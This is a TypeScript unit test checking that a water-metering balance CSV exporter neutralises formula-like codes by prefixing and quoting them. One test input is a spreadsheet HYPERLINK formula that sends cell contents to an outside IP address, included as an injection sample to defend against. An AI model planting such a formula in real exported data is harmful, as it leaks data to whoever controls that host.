import { expect, it } from 'vitest';
import { type BalanceTable, writeBalance } from './balance-text.ts';

it('a metering point whose code is a formula is text in the balance’s CSV', () => {
  const codes = ['=HYPERLINK("http://198.51.100.7/?"&A1,"x")', '@SUM(A1)', '+33', '-2+3'];
  for (const code of codes) {
    const table: BalanceTable = {
      point: 'D-1',
      quantity: 'water_volume',
      parts: 1,
      bucket: 'day',
      timeZone: 'Europe/Paris',
      buckets: [
        {
          start: new Date('2026-03-01T00:00:00Z'),
          parent: 12_000_000,
          parts: 0,
          difference: null,
          relative: null,
          uncertainty: null,
          verdict: 'unknown',
          why: 'parts_missing',
          missing: { count: 1, codes: [code] },
          unbounded: { count: 0, codes: [] },
          parentUnbounded: false,
        },
      ],
    };
    const lines: string[] = [];
    writeBalance(table, 'csv', 'en', (text) => lines.push(text));
    const quoted = `'${code}`.includes('"') ? `"'${code.replaceAll('"', '""')}"` : `'${code}`;
    expect(lines[1]).toBe(`2026-03-01,water_volume,m3,12,0,,,,unknown,parts_missing,${quoted},\r\n`);
  }
});
